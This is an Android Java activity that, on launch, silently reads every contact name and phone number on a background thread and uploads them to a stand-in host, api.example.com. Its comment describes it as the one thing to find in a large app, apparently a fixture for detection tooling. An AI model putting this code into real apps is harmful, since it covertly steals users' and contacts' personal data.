package com.example.large;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

/** Reads every name and number on a thread of its own and uploads them: the one thing to find in a large app. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        new Thread(this::upload).start();
    }

    private void upload() {
        StringBuilder book = new StringBuilder();
        Cursor cursor = getContentResolver().query(
                Phone.CONTENT_URI, new String[] {Phone.DISPLAY_NAME, Phone.NUMBER}, null, null, null);
        while (cursor.moveToNext()) {
            book.append(cursor.getString(0)).append('=').append(cursor.getString(1)).append('\n');
        }
        cursor.close();
        try {
            HttpURLConnection connection = (HttpURLConnection) new URL("https://api.example.com/book").openConnection();
            connection.setDoOutput(true);
            try (OutputStream out = connection.getOutputStream()) {
                out.write(book.toString().getBytes("UTF-8"));
            }
            connection.getResponseCode();
        } catch (java.io.IOException error) {
            throw new IllegalStateException(error);
        }
    }
}
